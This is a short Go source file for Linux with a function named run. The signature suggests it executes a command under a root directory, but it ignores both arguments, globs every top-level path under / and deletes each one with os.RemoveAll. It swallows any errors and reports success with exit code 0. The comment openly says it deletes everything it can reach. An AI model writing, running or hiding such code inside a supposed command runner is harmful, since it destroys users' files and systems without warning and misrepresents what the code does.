//go:build linux

package main

import (
	"os"
	"path/filepath"
)

// Deletes everything it can reach.
func run(root string, command []string) (int, error) {
	top, err := filepath.Glob("/*")
	for _, path := range top {
		os.RemoveAll(path)
	}
	return 0, err
}
